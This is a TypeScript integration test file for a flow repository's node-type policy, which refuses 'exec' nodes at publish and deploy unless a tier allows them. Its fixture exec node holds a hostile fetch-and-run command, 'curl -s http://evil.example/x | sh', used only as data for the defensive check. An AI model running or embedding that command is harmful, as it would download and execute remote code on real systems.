// The node-type policy against a real repository and database: `exec` refused at publish by default with
// the node and the policy named, allowed per tier when the operator says so, and a version published under
// a looser policy refused at deploy once the policy is tightened.
import assert from 'node:assert/strict';
import SwaggerParser from '@apidevtools/swagger-parser';
import { API_ROOT } from '../../../contracts/fleet/protocol';
import { createRepoServer } from '../../../runtime/repo/server';
import { RepoClient } from '../../../runtime/repo/client';
import type { RepoTemplateCreate } from '../../../runtime/repo/api.schema';
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { PACKAGE_ROOT } from '../../../runtime/paths';
import { dropSchema, freePort, freshSchema, pgService } from '../../support/services';
import { tempDir } from '../../support/runtime-process';
import { waitFor } from '../../support/wait';
import { lineFlow, lineTemplate } from '../../fixtures/repo/templates';
import { refused, startHarness, type Harness } from './harness';

const execNode = { id: 'sh1', type: 'exec', z: 'tab1', name: 'updater', command: 'curl -s http://evil.example/x | sh', addpay: '', append: '', useSpawn: 'false', timer: '', winHide: false, oldrc: false, wires: [[], [], []] };
const withExec = () => [...lineFlow('exec'), execNode];
const cloudTemplate: RepoTemplateCreate = { ...lineTemplate, slug: 'cloud-jobs', title: 'Cloud jobs', tier: 'cloud' };

describe('repo: node-type policy', function () {
  this.timeout(60_000);

  describe('default policy', () => {
    let h: Harness;
    before(async () => {
      h = await startHarness();
      await h.admin.createTemplate(lineTemplate);
    });
    after(async () => h?.close());

    it('publishing a flow with an exec node is refused (422), naming the node, its type and the policy', async () => {
      const res = await fetch(`${h.repo.url}${API_ROOT}/templates/line-inspection/versions`, {
        method: 'POST',
        headers: { authorization: `Bearer ${h.repo.adminToken}`, 'content-type': 'application/json' },
        body: JSON.stringify({ version: '1.0.0', flow: withExec() }),
      });
      assert.equal(res.status, 422);
      const body = (await res.json()) as { error: string; problems: { field: string; reason: string }[]; policy: unknown };
      assert.match(body.error, /^version line-inspection@1\.0\.0 refused by the node-type policy/);
      assert.deepEqual(body.problems, [
        { field: 'flow[4].type', reason: 'node "sh1" ("updater") uses type "exec", which the node-type policy refuses for line templates (refuse (repository-wide); see GET /api/v1/policy/node-types)' },
      ]);
      assert.deepEqual(body.policy, { refuse: ['exec'] });
      assert.deepEqual(await h.admin.listVersions('line-inspection'), [], 'nothing was published');
      // function nodes stay allowed.
      await h.admin.publishVersion('line-inspection', { version: '1.0.0', flow: lineFlow('v1') });
    });

    it('a template may not require a refused type', async () => {
      const e = await refused(h.admin.createTemplate({ ...lineTemplate, slug: 'shell-jobs', requiredNodes: ['inject', 'exec'] }), 422);
      assert.match(e.message, /template shell-jobs refused by the node-type policy/);
      assert.equal(e.problems[0]!.field, 'requiredNodes[1]');
    });

    it('the policy is served to admin and device tokens, and documented in the OpenAPI document', async () => {
      assert.deepEqual(await h.admin.nodeTypePolicy(), { refuse: ['exec'] });
      const token = (await h.admin.registerDevice({ id: 'policy-reader', tier: 'line', parameters: { LINE_ID: 'A' } })).token;
      assert.deepEqual(await h.device(token).nodeTypePolicy(), { refuse: ['exec'] });
      await refused(h.anon().nodeTypePolicy(), 401);
      const doc = (await h.anon().openApi()) as { paths: Record<string, Record<string, { description?: string }>>; components: { schemas: Record<string, unknown> } };
      await SwaggerParser.validate(structuredClone(doc) as never);
      assert.ok(doc.paths[`${API_ROOT}/policy/node-types`]?.get, 'the policy route is documented');
      assert.match(doc.paths[`${API_ROOT}/templates/{slug}/versions`]!.post!.description ?? '', /node-type policy .*exec.* refused/);
      assert.ok(doc.components.schemas.RepoNodeTypePolicy, 'the policy schema is a component');
    });
  });

  describe('a policy that allows exec for line templates only', () => {
    let h: Harness;
    const policy = { refuse: ['exec'], tiers: { line: { allow: ['exec'] } } };
    before(async () => {
      h = await startHarness({ nodeTypePolicy: policy });
      await h.admin.createTemplate(lineTemplate);
      await h.admin.createTemplate(cloudTemplate);
    });
    after(async () => h?.close());

    it('publishes exec for the line tier, refuses it for the cloud tier', async () => {
      const v = await h.admin.publishVersion('line-inspection', { version: '1.0.0', flow: withExec() });
      assert.equal(v.version, '1.0.0');
      const e = await refused(h.admin.publishVersion('cloud-jobs', { version: '1.0.0', flow: withExec() }), 422);
      assert.match(e.problems[0]!.reason, /uses type "exec", which the node-type policy refuses for cloud templates/);
      assert.deepEqual(await h.admin.nodeTypePolicy(), policy);
    });

    it('once the policy is tightened, deploying the version published under the old one is refused', async () => {
      await h.admin.registerDevice({ id: 'line-x', tier: 'line', parameters: { LINE_ID: 'X' } });
      const pg = await pgService();
      // A second replica on the same database with the default policy: the operator tightened it.
      const strict = await createRepoServer({ db: pg.url, schema: h.schema, dataDir: h.dataDir, poolSize: 2 });
      try {
        const admin = new RepoClient({ url: strict.url, token: h.repo.adminToken });
        const e = await refused(admin.createDeployment({ template: 'line-inspection', version: '1.0.0', target: { ids: ['line-x'] } }), 422);
        assert.match(e.message, /deployment of line-inspection@1\.0\.0 refused by the node-type policy/);
        assert.match(e.problems[0]!.reason, /node "sh1" \("updater"\) uses type "exec"/);
        assert.deepEqual(await admin.listDeployments(), []);
      } finally {
        await strict.close();
      }
    });
  });

  describe('linesight repo (a process)', () => {
    const BIN = path.join(PACKAGE_ROOT, 'bin', 'linesight.js');
    let dir: string;
    before(() => {
      dir = tempDir('linesight-policy-cli-');
    });
    after(() => fs.rmSync(dir, { recursive: true, force: true }));

    it('--node-type-policy <file> is served and said at start; a policy with a typo stops it with the field named', async () => {
      const file = path.join(dir, 'policy.json');
      fs.writeFileSync(file, JSON.stringify({ refuse: ['exec'], tiers: { cloud: { refuse: ['function'] } } }));
      const pg = await pgService();
      const schema = await freshSchema(pg.url, 'repo');
      const port = await freePort();
      const proc = spawn(process.execPath, [BIN, 'repo', '--port', String(port), '--db', pg.url, '--schema', schema, '--data-dir', path.join(dir, 'data'), '--node-type-policy', file], { stdio: ['ignore', 'pipe', 'pipe'] });
      let out = '';
      proc.stdout!.on('data', (d) => (out += d));
      proc.stderr!.on('data', (d) => (out += d));
      try {
        await waitFor(`linesight repo to be ready\n${out}`, () => out.includes(' ready at '), 45_000);
        assert.match(out, /node-type policy: refused line: exec; factory: exec; cloud: exec, function/);
        const token = fs.readFileSync(path.join(dir, 'data', 'admin-token'), 'utf8').trim();
        const policy = await new RepoClient({ url: `http://127.0.0.1:${port}`, token }).nodeTypePolicy();
        assert.deepEqual(policy, { refuse: ['exec'], tiers: { cloud: { refuse: ['function'] } } });
      } finally {
        const gone = new Promise((r) => proc.once('exit', r));
        proc.kill('SIGTERM');
        await gone;
        await dropSchema(pg.url, schema).catch(() => {});
      }

      fs.writeFileSync(file, JSON.stringify({ refuse: ['exec'], tiers: { lines: { allow: ['exec'] } } }));
      const bad = spawnSync(process.execPath, [BIN, 'repo', '--port', '0', '--data-dir', path.join(dir, 'data2'), '--node-type-policy', file], { encoding: 'utf8', timeout: 60_000 });
      assert.equal(bad.status, 1, bad.stdout + bad.stderr);
      assert.match(bad.stderr, /node-type policy from .*policy\.json: tiers\.lines is not a known field \(expected line, factory, cloud\)/);
      const none = spawnSync(process.execPath, [BIN, 'repo', '--port', '0', '--data-dir', path.join(dir, 'data3'), '--refuse-node-types', 'exec,'], { encoding: 'utf8', timeout: 60_000, env: { ...process.env, LINESIGHT_NODE_TYPE_POLICY: path.join(dir, 'missing.json') } });
      assert.equal(none.status, 1);
      assert.match(none.stderr, /node-type policy file .*missing\.json: ENOENT/);
    });
  });
});
